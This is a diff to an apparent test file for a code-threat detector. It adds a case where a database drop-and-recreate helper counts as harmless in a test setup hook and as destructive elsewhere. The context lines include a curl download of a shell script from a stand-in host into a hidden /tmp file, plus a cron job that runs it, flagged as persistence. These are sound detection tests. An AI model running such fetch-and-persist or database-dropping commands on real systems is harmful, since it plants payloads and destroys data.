@@ -292,6 +292,11 @@ describe('other behaviours by category', () => {
     expect(threats(fence('bash', 'curl --output /dev/null --silent --head --fail "https://status.example.org" && echo up\n(crontab -l 2>/dev/null; echo "0 3 * * * /opt/tools/nightly.sh") | crontab -'))).toEqual(['threat/persistence 9:68 warning']);
     expect(threats(fence('bash', 'curl -fsSL --output /tmp/.u https://drop.example.net/u.sh\n(crontab -l 2>/dev/null; echo "*/5 * * * * sh /tmp/.u") | crontab -'))).toEqual(['threat/persistence 9:59 error']);
   });
+  it('reads a database dropped and created again by a helper of a test suite\'s setup hook as a fresh test database, and the same helper run elsewhere as dropping it', () => {
+    const helper = 'import { Client } from "pg";\nasync function freshDatabase(url: string) {\n  const name = new URL(url).pathname.slice(1);\n  const admin = new Client({ connectionString: url });\n  await admin.connect();\n  await admin.query(`DROP DATABASE IF EXISTS ${name} WITH (FORCE)`);\n  await admin.query(`CREATE DATABASE ${name}`);\n  await admin.end();\n}\n';
+    expect(threats(fence('ts', `${helper}beforeEach(async () => {\n  await freshDatabase(process.env.ORDERS_DB_URL!);\n});`))).toEqual([]);
+    expect(threats(fence('ts', `${helper}export async function wipe() {\n  await freshDatabase(process.env.ORDERS_DB_URL!);\n}`))).toEqual(['threat/destructive 13:3 error']);
+  });
   it('leaves scoped clean-ups alone', () => {
     expect(threats(fence('bash', "find /var/log/myapp -name '*.gz' -mtime +30 -delete\nrm -rf ../build ./dist"))).toEqual([]);
     expect(threats(fence('python', 'import shutil\nshutil.rmtree("build", ignore_errors=True)'))).toEqual([]);
